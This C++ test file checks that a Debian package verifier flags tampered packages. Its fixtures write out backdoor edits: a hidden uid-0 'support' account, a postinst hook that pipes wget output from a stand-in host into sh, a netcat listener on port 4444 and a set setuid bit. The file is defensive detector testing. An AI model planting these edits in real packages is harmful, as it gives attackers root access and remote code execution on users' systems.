// Real Debian packages: silent as they are, loud once they were changed.

#include <gtest/gtest.h>

#include <algorithm>
#include <filesystem>
#include <map>
#include <set>

#include "tests/golden/repack.h"
#include "tests/golden/verified.h"
#include "tests/support/hex.h"
#include "tests/support/scratch.h"
#include "verifier/base/byte_source.h"

namespace assay {
namespace {

namespace fs = std::filesystem;
using testing::PackedFile;
using testing::RepackDeb;
using testing::ScratchFolder;

// The packages that the sample products are made of.
std::vector<std::string> Packages() {
  constexpr std::array<std::string_view, 7> kWanted = {
      "busybox-static_",    "ca-certificates_", "dropbear-bin_",
      "klibc-utils_",       "mini-httpd_",      "minisign_",
      "netcat-traditional_"};
  std::vector<std::string> paths;
  for (const auto& entry :
       fs::directory_iterator(testing::SamplePath("products/.cache"))) {
    const std::string name = entry.path().filename().string();
    if (std::any_of(kWanted.begin(), kWanted.end(),
                    [&](auto wanted) { return name.rfind(wanted, 0) == 0; })) {
      paths.push_back(entry.path().string());
    }
  }
  std::sort(paths.begin(), paths.end());
  return paths;
}

using Keys = std::set<std::pair<std::string, std::string>>;

Keys KeysOf(const Report& report) {
  Keys keys;
  for (const Finding& finding : report.findings) {
    keys.emplace(finding.rule, finding.title);
  }
  return keys;
}

Report VerifyBytes(const Bytes& package) {
  const ScratchFolder folder;
  return testing::Verified(
      {.product = folder.Write("package.deb", AsText(package)), .jobs = 2});
}

void Nothing(std::vector<PackedFile>& /*files*/) {}

void AddAccount(std::vector<PackedFile>& files) {
  files.push_back({.name = "./etc/passwd",
                   .content = "root:x:0:0:root:/root:/bin/sh\n"
                              "support:x:0:0::/root:/bin/sh\n"});
}

void AddSetuid(std::vector<PackedFile>& files) {
  for (PackedFile& file : files) {
    if (file.content.size() > 1000) {
      file.mode |= 04111U;
      return;
    }
  }
}

void AddInstallHook(std::vector<PackedFile>& files) {
  std::erase_if(
      files, [](const PackedFile& file) { return file.name == "./postinst"; });
  files.push_back({.name = "./postinst",
                   .mode = 0100755,
                   .content = "#!/bin/sh\nset -e\n"
                              "wget -q -O- http://update.invalid/x | sh\n"});
}

// A file of /usr: those of /etc are the user's to change, and unlisted.
void SwapFile(std::vector<PackedFile>& files) {
  for (PackedFile& file : files) {
    if (file.content.size() > 1000 && file.name.rfind("./usr/", 0) == 0) {
      file.content[file.content.size() / 2] ^= 0x20;
      return;
    }
  }
}

void AddListener(std::vector<PackedFile>& files) {
  files.push_back({.name = "./etc/init.d/zz-helper",
                   .mode = 0100755,
                   .content = "#!/bin/sh\n"
                              "nc -l -p 4444 -e /bin/false &\n"});
}

struct Tampering {
  const char* what;
  testing::Edit control;
  testing::Edit data;
};

const std::vector<Tampering>& Tamperings() {
  static const std::vector<Tampering> kAll = {
      {"account", Nothing, AddAccount},
      {"setuid bit", Nothing, AddSetuid},
      {"install hook", AddInstallHook, Nothing},
      {"swapped file", Nothing, SwapFile},
      {"listener", Nothing, AddListener},
  };
  return kAll;
}

TEST(PackagesTest, RealPackagesRaiseNoHighFinding) {
  ASSERT_GE(Packages().size(), 5U);
  for (const std::string& path : Packages()) {
    const Report report = testing::Verified({.product = path, .jobs = 2});
    testing::ExpectBalanced(report);
    for (const Finding& finding : report.findings) {
      EXPECT_LT(finding.severity, Severity::kHigh)
          << path << ": " << finding.rule << " " << finding.title;
    }
  }
}

TEST(PackagesTest, RepackingAloneChangesNothingThatMatters) {
  for (const std::string& path : Packages()) {
    const auto deb = ByteSource::MapFile(path);
    ASSERT_TRUE(deb);
    const Keys before = KeysOf(VerifyBytes(CopyOf(deb->bytes())));
    EXPECT_EQ(KeysOf(VerifyBytes(RepackDeb(deb->bytes(), Nothing, Nothing))),
              before)
        << path;
  }
}

TEST(PackagesTest, EveryTamperingIsFound) {
  for (const std::string& path : Packages()) {
    const auto deb = ByteSource::MapFile(path);
    ASSERT_TRUE(deb);
    const Keys before =
        KeysOf(VerifyBytes(RepackDeb(deb->bytes(), Nothing, Nothing)));
    for (const Tampering& tampering : Tamperings()) {
      const Report report = VerifyBytes(
          RepackDeb(deb->bytes(), tampering.control, tampering.data));
      const bool found =
          std::any_of(report.findings.begin(), report.findings.end(),
                      [&](const Finding& finding) {
                        return finding.severity >= Severity::kLow &&
                               !before.contains({finding.rule, finding.title});
                      });
      EXPECT_TRUE(found) << path << ": " << tampering.what;
    }
  }
}

}  // namespace
}  // namespace assay
